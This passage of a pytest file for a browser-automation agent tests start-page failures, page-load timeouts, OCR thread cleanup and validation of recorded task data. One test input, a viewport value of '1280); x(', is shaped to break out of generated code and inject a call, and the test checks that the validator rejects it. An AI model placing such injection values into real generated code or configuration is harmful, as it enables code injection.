            f"name: unreachable\ngoal: g\ntarget: {{start_url: '{url}'}}\nscript: [{{action: terminate, status: success}}]\n",
            encoding="utf-8",
        )
        result = subprocess.run(
            [GLASSBOX, "run", str(path), "--runs-dir", str(tmp_path / "runs")], capture_output=True, text=True, timeout=120
        )
        assert result.returncode == 1, result.stderr
        assert f"cannot open the start page {url}: {reason}" in result.stderr
        assert "Traceback" not in result.stderr and "Page.goto" not in result.stderr


@pytest.mark.browser
def test_a_start_page_that_never_loads_stops_at_its_limit():
    from tools.browser import BrowserExecutor, BrowserSettings, StartPageError

    require_chromium()
    with LocalServer(_Hangs) as server, BrowserExecutor(BrowserSettings()) as browser:
        with pytest.raises(StartPageError, match=r"the start page .*/slow did not load within 1 s"):
            browser.goto(server.url + "/slow", timeout_ms=1000)


@pytest.mark.browser
def test_an_ocr_worker_started_before_a_run_that_never_starts_ends(tmp_path):
    """OCR's thread starts before the site and the browser (its engine loads meanwhile); when the start page
    cannot be opened, no run starts and the thread must not live on (an eval worker runs many episodes)."""
    import threading

    from agent import load_task, run_task
    from tools.browser import StartPageError
    from tools.ocr import ocr_available

    require_chromium()
    if ocr_available() is not None:
        pytest.skip(f"needs the ocr extra: {ocr_available()}")
    path = tmp_path / "t.yaml"
    url = f"http://127.0.0.1:{_closed_port()}/start"
    path.write_text(
        f"name: unreachable\ngoal: g\ntarget: {{start_url: '{url}'}}\nocr: {{enabled: true}}\n"
        "script: [{action: terminate, status: success}]\n",
        encoding="utf-8",
    )
    with pytest.raises(StartPageError):
        run_task(load_task(path), runs_dir=tmp_path / "runs")
    for thread in [t for t in threading.enumerate() if t.name == "glassbox-ocr"]:
        thread.join(timeout=60)
        assert not thread.is_alive(), "the OCR thread outlived a run that never started"


SMALL_TASK = {"name": "t", "goal": "g", "target": {"start_url": "http://x/"}}


@pytest.mark.parametrize(
    ("recorded", "says"),
    [
        ({**SMALL_TASK, "browser": {"viewport": ["1280); x(", 800]}}, "browser.viewport"),
        ({**SMALL_TASK, "max_steps": "many"}, "max_steps"),
        ([1, 2], "Input should be"),
    ],
)
def test_a_recorded_task_that_is_not_valid_is_one_usage_error_naming_the_run(recorded, says) -> None:
    # run.json's task rebuilds the Task for explain, decide, labels, runs ocr and the Playwright export
    from agent.task import RecordedTaskError, Task
    from tools.errors import UsageError

    with pytest.raises(RecordedTaskError, match=rf"^run r1: the recorded task is not valid \(.*{re.escape(says)}") as caught:
        Task.recorded(recorded, run_id="r1")
    assert isinstance(caught.value, UsageError)
    ok = Task.recorded(SMALL_TASK, run_id="r1")
    assert ok.browser.viewport == (1280, 800)
